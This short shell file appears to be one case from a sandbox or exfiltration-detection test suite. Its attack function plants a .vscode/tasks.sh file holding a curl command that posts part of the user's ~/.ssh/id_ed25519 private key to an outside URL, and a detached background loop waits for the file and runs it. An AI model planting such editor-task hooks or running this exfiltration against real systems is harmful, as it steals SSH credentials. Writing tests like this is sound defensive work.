# SPDX-License-Identifier: Apache-2.0
TITLE="the secret is planted in an editor task that an innocent parent runs later"
ROW="B03 E12"
FORM=daemon CLASS=ssh-key SECRET=.ssh/id_ed25519
prepare() { setsid sh -c 'while ! [ -s .vscode/tasks.sh ]; do sleep 0.1; done; sleep 0.2; sh .vscode/tasks.sh' & }
attack() {
	mkdir -p .vscode
	{ printf 'curl -s -m 15 -d %s %s/\n' "$(sed -n 2p "$HOME/.ssh/id_ed25519")" "$URL"; } >.vscode/tasks.part
	mv .vscode/tasks.part .vscode/tasks.sh
	sleep 2
}
SETTLE=2
